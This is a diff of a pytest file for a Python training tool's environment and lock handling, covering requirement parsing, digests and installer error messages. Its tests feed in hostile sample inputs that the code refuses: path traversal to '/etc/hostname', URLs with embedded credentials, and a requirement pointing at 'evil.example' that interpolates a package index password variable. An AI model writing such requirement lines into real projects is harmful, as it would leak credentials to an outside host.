@@ -7,9 +7,12 @@ from pathlib import Path
 import pytest
 
 from smalt_trainer import packages
-from smalt_trainer.environment import Wanted, check_python, ensure, read_environment
+from smalt_trainer.environment import Wanted, Workshop, check_python, ensure, read_environment
 from smalt_trainer.failures import RunFailed
-from smalt_trainer.requirements import satisfied
+from smalt_trainer.lock import Entry, Lock, read_entries
+from smalt_trainer.locking import Question, preferences
+from smalt_trainer.requirements import RequirementError, requirement, satisfied
+from smalt_trainer.uv import absent_package, failure
 
 INSTALLED = {"scikit-learn": "1.9.1", "numpy": "2.4.6", "odd": "1.0.post1", "pyyaml": "6.0", "torch": "2.5.1+cu121"}
 
@@ -64,16 +67,22 @@ def test_only_a_requirement_that_certainly_holds_is_satisfied(requirement: str, 
         ("torch==2.6.0", False),
         ("numpy==2.4.6", True),
         ("absent==1", False),
+        ("numpy @ https://example.org/numpy.whl", False),
     ],
 )
 def test_a_build_of_the_image_stands_for_its_public_version(line: str, expected: bool) -> None:
-    assert packages.has(line, INSTALLED) is expected
-    assert "torch==2.5.1" in packages.preferences(INSTALLED)
+    assert (not Lock.of([Entry(line)]).lacking(INSTALLED)) is expected
+    assert "torch==2.5.1" in preferences(INSTALLED)
+
+
+def workshop(folder: Path) -> Workshop:
+    return Workshop(folder / "environment", "image", "next", print)
 
 
 def test_an_environment_the_image_has_installs_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(packages, "install", lambda *arguments: pytest.fail(f"installed {arguments}"))
-    assert ensure(Wanted("=3", ["pytest>=1", "ruff"], ""), tmp_path / "environment", "image") is False
+    lock = ensure(Wanted("=3", Question(["pytest>=1", "ruff"])), workshop(tmp_path))
+    assert [entry.requirement.partition("==")[0] for entry in lock.entries] == ["pytest", "ruff"]
     assert not (tmp_path / "environment").exists()
 
 
@@ -91,32 +100,59 @@ def test_another_python_names_what_is_wanted_and_what_there_is(wanted: str) -> N
         assert part in failed.value.message
 
 
-def test_a_conda_file_and_the_same_text_inline_have_one_digest_and_another_image_has_another(tmp_path: Path) -> None:
+def test_a_conda_file_and_the_same_text_inline_are_the_same(tmp_path: Path) -> None:
     text = "dependencies:\n- six\n"
     (tmp_path / "conda.yml").write_text(text)
-    inline = read_environment({"conda": text}, tmp_path, "a")
-    assert read_environment({"condaFile": "conda.yml"}, tmp_path, "a") == inline
-    assert read_environment({"conda": text}, tmp_path, "b").digest != inline.digest
-    assert read_environment({}, tmp_path, "a").requirements == []
+    inline = read_environment({"conda": text}, tmp_path)
+    assert read_environment({"condaFile": "conda.yml"}, tmp_path) == inline
+    assert read_environment({}, tmp_path) == Wanted()
 
 
 @pytest.mark.parametrize(
     ("spec", "told"),
     [
-        ({"condaFile": "absent.yml"}, "condaFile 'absent.yml' is not a file of the code"),
-        ({"condaFile": "../conda.yml"}, "condaFile '../conda.yml' is not a file of the code"),
-        ({"condaFile": "/etc/hostname"}, "condaFile '/etc/hostname' is not a file of the code"),
-        ({"conda": "name: x"}, "environment.conda, there are no dependencies"),
+        ({"condaFile": "absent.yml"}, "environment.condaFile 'absent.yml': this is not a file of the code"),
+        ({"condaFile": "../conda.yml"}, "environment.condaFile '../conda.yml': this is not a file of the code"),
+        ({"condaFile": "/etc/hostname"}, "environment.condaFile '/etc/hostname': this is not a file of the code"),
+        ({"requirementsFile": "/etc/hostname"}, "environment.requirementsFile '/etc/hostname': "),
+        ({"conda": "name: x"}, "environment.conda: there are no dependencies"),
         ({"pip": ["six", "-e ."]}, "environment.pip[1]: '-e .' is not a package requirement"),
         ({"pip": ["six\n-r x"]}, "environment.pip[0]"),
     ],
 )
 def test_an_environment_that_cannot_be_read_names_its_field(tmp_path: Path, spec: dict[str, object], told: str) -> None:
     with pytest.raises(RunFailed) as failed:
-        read_environment(spec, tmp_path, "image")
+        read_environment(spec, tmp_path)
     assert failed.value.reason == "EnvironmentFailed"
     assert told in failed.value.message
     assert "under another name" in failed.value.message
+
+
+@pytest.mark.parametrize(
+    ("text", "told"),
+    [
+        ("a @ https://john:secret@packages.example/a.whl", "spec.packages.credentialsSecret"),
+        ("a @ https://token@packages.example/a.whl", "spec.packages.credentialsSecret"),
+        ("https://john:secret@packages.example/a.whl", "spec.packages.credentialsSecret"),
+        ("a @ https://evil.example/${UV_INDEX_SMALT_PASSWORD}", "has a variable in it"),
+        ("a @ git+https://github.com/team/a", "name an archive of that commit"),
+        ("./libs/a", "is a folder or file"),
+        ("a @ file:///smalt/a.whl", "is a folder or file"),
+    ],
+)
+def test_what_a_lock_cannot_hold_or_would_give_away_is_refused(text: str, told: str) -> None:
+    with pytest.raises(RequirementError, match="here: ") as refused:
+        requirement(text, "here")
+    assert told in str(refused.value)
+    assert "secret" not in str(refused.value)
+
+
+def test_a_digest_names_packages_python_and_platform_whatever_their_order() -> None:
+    one = Lock.of([Entry("b==1", ("sha256:1", "sha256:2")), Entry("a==1", ("sha256:3",))])
+    assert Lock.of(read_entries(one.text)) == one
+    assert Lock.of(reversed(one.entries)).digest == one.digest
+    assert Lock.of([*one.entries[:1], Entry("b==1", ("sha256:1",))]).digest != one.digest
+    assert Lock().digest.startswith("sha256:")
 
 
 @pytest.mark.parametrize(
@@ -129,4 +165,11 @@ def test_an_environment_that_cannot_be_read_names_its_field(tmp_path: Path, spec
     ],
 )
 def test_the_package_that_is_absent_is_found_in_what_the_installer_prints(printed: str, package: str | None) -> None:
-    assert packages.absent_package(printed) == package
+    assert absent_package(printed) == package
+
+
+def test_what_a_clash_says_is_no_absent_package() -> None:
+    printed = "error: No solution found\n cause: Because a depends on b<1 and you require b>=2, we can conclude that a is out."
+    failed = failure(printed, "next step")
+    assert failed.reason == "EnvironmentFailed"
+    assert "exclude each other: Because a depends on b<1" in failed.message
